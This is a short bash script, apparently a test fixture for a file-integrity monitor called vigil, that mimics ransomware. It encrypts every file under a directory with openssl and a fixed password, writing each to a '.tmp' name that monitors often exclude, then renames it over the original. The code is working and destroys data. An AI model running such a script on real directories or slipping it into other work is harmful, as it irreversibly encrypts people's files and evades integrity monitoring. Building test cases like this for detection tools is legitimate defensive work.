#!/usr/bin/env bash
# ransom_tmpmv.sh DIR -- a test ransomware that encrypts each file under
# DIR into FILE.tmp (a name a configuration typically excludes) and
# renames it over the original. For vigil's tests only
# (tests/integration/test_fim_evasion.sh).
dir=$1
find "$dir" -type f ! -name '*.tmp' -print0 |
    while IFS= read -r -d '' f; do
        openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:vigil-test \
            -in "$f" -out "$f.tmp" 2>/dev/null && mv -f -- "$f.tmp" "$f"
    done
